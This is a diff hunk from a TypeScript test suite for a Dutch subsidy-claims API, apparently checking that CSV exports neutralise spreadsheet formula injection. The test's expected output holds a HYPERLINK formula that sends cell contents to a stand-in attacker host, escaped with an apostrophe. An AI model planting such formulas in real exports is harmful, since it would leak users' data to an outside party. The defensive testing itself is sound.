@@ -153,7 +153,7 @@ describe('subsidies: cost-line imports and exports under attack', () => {
     const claim = (await f.post('/api/v1/declaraties', { regelingCode: 'FORMULE', periodeVan: '2026-01-01', periodeTot: '2026-12-31' }).expect(201)).body;
     const csv = (await f.get(`/api/v1/declaraties/${claim.id}/export?formaat=csv`).expect(200)).text;
     expect(csv).toContain(`"'=HYPERLINK(""https://aanvaller.example/?d=""&A1,""Klik"")"`);
-    const rijen = parse(csv, { columns: true }) as { omschrijving: string; bewijsstuk: string }[];
+    const rijen = parse<{ omschrijving: string; bewijsstuk: string }>(csv, { columns: true });
     expect(rijen.map((r) => r.omschrijving).sort()).toEqual(aanval.map((a) => `'${a}`).sort());
     expect(rijen.every((r) => r.bewijsstuk.startsWith("'="))).toBe(true);
 
